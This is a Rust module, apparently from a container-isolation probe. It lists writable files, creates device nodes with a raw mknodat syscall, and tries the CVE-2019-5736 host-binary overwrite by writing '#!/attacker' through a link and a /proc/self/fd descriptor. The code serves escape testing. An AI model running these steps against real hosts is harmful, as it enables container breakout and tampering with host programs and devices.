//! Files that steer the host, devices, and the programs that run a container.

use std::{
    ffi::CString,
    fs::{self, File},
    io::{self, Write},
    os::fd::AsRawFd,
    path::Path,
};

use crate::{say, syscall};

/// Names every file below the directories that can be written to. A process's own entries in /proc are left out.
pub(crate) fn walk(directories: &[&str]) {
    let mut seen = 0_u64;
    for directory in directories {
        below(Path::new(directory), &mut seen);
    }
    println!("seen: {seen}");
}

fn below(directory: &Path, seen: &mut u64) {
    let Ok(entries) = fs::read_dir(directory) else { return };
    for entry in entries.flatten() {
        let path = entry.path();
        let Ok(kind) = entry.file_type() else { continue };
        let name = entry.file_name();
        let of_process = name.to_string_lossy().starts_with(|c: char| c.is_ascii_digit()) || name == "self" || name == "thread-self";
        if directory == Path::new("/proc") && of_process {
            continue;
        }
        // Not what /dev/null was laid over.
        let file = kind.is_file() && fs::metadata(&path).is_ok_and(|m| m.is_file());
        if kind.is_dir() {
            below(&path, seen);
        } else if file {
            *seen += 1;
            // A file that nothing can be written to opens as well, for root; to write nothing shows it and changes nothing.
            let opened = File::options().write(true).custom_nonblocking().open(&path);
            if opened.and_then(|mut file| file.write(&[])).is_ok() {
                println!("writable: {}", path.display());
            }
        }
    }
}

trait Nonblocking {
    fn custom_nonblocking(&mut self) -> &mut Self;
}

impl Nonblocking for fs::OpenOptions {
    fn custom_nonblocking(&mut self) -> &mut Self {
        std::os::unix::fs::OpenOptionsExt::custom_flags(self, 0o4000)
    }
}

/// Makes each device (`c:1:3`, `b:8:0`) and opens it.
pub(crate) fn devices(devices: &[&str]) {
    #[cfg(target_arch = "x86_64")]
    const MKNODAT: i64 = 259;
    #[cfg(not(target_arch = "x86_64"))]
    const MKNODAT: i64 = 33;
    for device in devices {
        let mut parts = device.split(':');
        let kind = if parts.next() == Some("b") { 0o060_000 } else { 0o020_000 };
        let mut number = || parts.next().and_then(|n| n.parse::<u64>().ok()).unwrap_or(0);
        let (major, minor) = (number(), number());
        let device_number = (minor & 0xff) | major << 8 | (minor & !0xff) << 12;
        let path = format!("/tmp/device-{}", device.replace(':', "-"));
        let text = CString::new(path.clone()).unwrap_or_default();
        let made = syscall(MKNODAT, [-100_i64 as u64, text.as_ptr() as u64, kind | 0o666, device_number, 0, 0]);
        say(format!("mknod {device}"), made);
        let nonblocking = |options: &mut fs::OpenOptions| -> io::Result<File> { options.custom_nonblocking().open(&path) };
        say(format!("read {device}"), nonblocking(File::options().read(true)));
        say(format!("write {device}"), nonblocking(File::options().write(true)));
    }
}

/// Tries to write to a program through a link to it, also by way of a descriptor of its own (CVE-2019-5736).
pub(crate) fn overwrite(path: &str) {
    let write = |path: &str| File::options().write(true).open(path).and_then(|mut f| f.write_all(b"#!/attacker"));
    say("write", write(path));
    match File::open(path) {
        Ok(file) => {
            println!("open: done");
            say("write again", write(&format!("/proc/self/fd/{}", file.as_raw_fd())));
        }
        Err(error) => say::<()>("open", Err(error)),
    }
}
